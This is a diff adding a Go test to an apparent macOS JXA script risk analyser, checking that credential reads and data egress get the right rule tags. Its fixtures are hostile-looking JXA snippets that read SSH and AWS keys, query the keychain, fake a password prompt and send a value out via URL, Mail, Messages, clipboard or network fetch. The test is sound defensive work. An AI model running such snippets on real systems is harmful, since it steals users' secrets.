@@ -1,6 +1,7 @@
 package jxa_test
 
 import (
+	"slices"
 	"strings"
 	"testing"
 
@@ -94,5 +95,42 @@ func TestNotCode(t *testing.T) {
 				t.Errorf("%q: %v (%s), want %v..%v", tt.src, v.Level, strings.Join(v.Texts(), " | "), tt.min, tt.max)
 			}
 		})
+	}
+}
+
+// TestSecretsAndEgress: every reason that reads a credential has a rule id
+// starting secret., every way out one starting egress. (the facade rates a
+// verdict with both as a secret sent out).
+func TestSecretsAndEgress(t *testing.T) {
+	env := testEnv(t)
+	tests := []struct {
+		name, src, prefix string
+	}{
+		{"ssh key read", sa + `var k = app.read('~/.ssh/id_ed25519')`, "secret."},
+		{"NSString key read", `ObjC.import('Foundation'); var k = $.NSString.stringWithContentsOfFileEncodingError('~/.aws/credentials', 4, null)`, "secret."},
+		{"keychain", `ObjC.import('Security'); var r = Ref(); $.SecItemCopyMatching(q, r)`, "secret."},
+		{"password prompt", sa + `var p = app.displayDialog('Password:', {defaultAnswer: '', hiddenAnswer: true})`, "secret."},
+		{"open location", sa + `app.openLocation('https://example.com/?q=' + k)`, "egress."},
+		{"open URL", `ObjC.import('AppKit'); $.NSWorkspace.sharedWorkspace.openURL($.NSURL.URLWithString('https://example.com/'))`, "egress."},
+		{"mail send", `var m = Application('Mail'); var msg = m.OutgoingMessage({subject: 'k', content: k}); m.outgoingMessages.push(msg); msg.send()`, "egress."},
+		{"messages send", `Application('Messages').send(k, {to: Application('Messages').buddies['x']})`, "egress."},
+		{"clipboard", sa + `app.setTheClipboardTo(k)`, "egress."},
+		{"network", `ObjC.import('Foundation'); $.NSData.dataWithContentsOfURL($.NSURL.URLWithString('https://example.com/' + k))`, "egress."},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			v := risk.JXA(tt.src, env)
+			for _, r := range v.Reasons {
+				if strings.HasPrefix(r.Rule, tt.prefix) {
+					return
+				}
+			}
+			t.Errorf("%q: no rule starting %s in %v", tt.src, tt.prefix, rules(v))
+		})
+	}
+	// Opening a file that runs is not a way out: it is hidden code.
+	v := risk.JXA(`Application('Finder').open(Path('/Users/me/Downloads/setup.command'))`, env)
+	if v.Level < level.Dangerous || slices.ContainsFunc(v.Reasons, func(r risk.Reason) bool { return strings.HasPrefix(r.Rule, "egress.") }) {
+		t.Errorf("open of a .command: %v %v, want dangerous and no egress", v.Level, rules(v))
 	}
 }
